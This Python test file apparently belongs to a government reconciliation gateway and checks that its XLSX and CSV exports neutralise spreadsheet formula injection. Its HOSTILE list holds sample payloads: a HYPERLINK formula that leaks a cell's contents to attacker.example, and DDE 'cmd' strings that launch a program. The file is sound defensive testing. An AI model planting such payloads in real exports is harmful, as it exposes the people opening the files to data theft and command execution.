"""Issue 18 item 4: reconciliation exports never carry a live formula. A receiver's copy holding
``=HYPERLINK(...)`` produced a live formula in the XLSX and CSV officials open; numbers must stay numbers.

The workbook is checked by reading its sheet XML from the zip (ECMA-376 §18.3.1.40: a formula is an
``<f>`` element in a cell), independently of the library that wrote it."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from lxml import etree

from gateway.reconciliation.export import to_csv, to_xlsx
from gateway.reconciliation.report import Line, Reconciliation

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBERS = ["-12.5", "+7", "-0.0001", "1234567.89"]


def line(receiver_value: str, note: str = "") -> Line:
    return Line(
        regime="KTXH-THANG",
        period="2026-THANG-10",
        reporting_unit="H15",
        indicator="0501",
        disaggregation="",
        destination="national",
        source_value="1",
        source_unit="tỷ đồng",
        sent_value="1",
        sent_unit="tỷ đồng",
        packet_id=None,
        revision=1,
        delivery_id=None,
        delivery_state="acknowledged",
        ack_status="DA_TIEP_NHAN",
        receiver_value=receiver_value,
        receiver_unit="=1+2",
        classification="value_mismatch",
        note=note,
    )


def report() -> Reconciliation:
    lines = [line(v, note=v) for v in HOSTILE] + [line(n) for n in NUMBERS]
    return Reconciliation(regime="=EVIL()", period="2026-THANG-10", lines=lines)


def test_no_cell_of_the_workbook_is_a_formula() -> None:
    data = to_xlsx(report())
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            root = etree.fromstring(book.read(name))
            formulas = root.findall(".//{*}f")
            assert formulas == [], f"{name}: {[etree.tostring(f) for f in formulas]}"
        text = b"".join(book.read(n) for n in book.namelist() if n.endswith(".xml")).decode("utf-8")
    assert "HYPERLINK" in text  # still there, as text an official can read


@pytest.mark.parametrize("value", HOSTILE)
def test_no_csv_field_starts_a_formula(value: str) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(report()))))
    hostile_rows = [r for r in rows if r["receiver_value"].lstrip("'") == value]
    assert hostile_rows, value
    for row in hostile_rows:
        for field in ("receiver_value", "receiver_unit", "note"):
            assert not row[field].startswith(("=", "+", "-", "@", "\t", "\r")), (field, row[field])
            assert row[field].startswith("'")


def test_numbers_stay_numbers() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(report()))))
    assert [r["receiver_value"] for r in rows[len(HOSTILE) :]] == NUMBERS
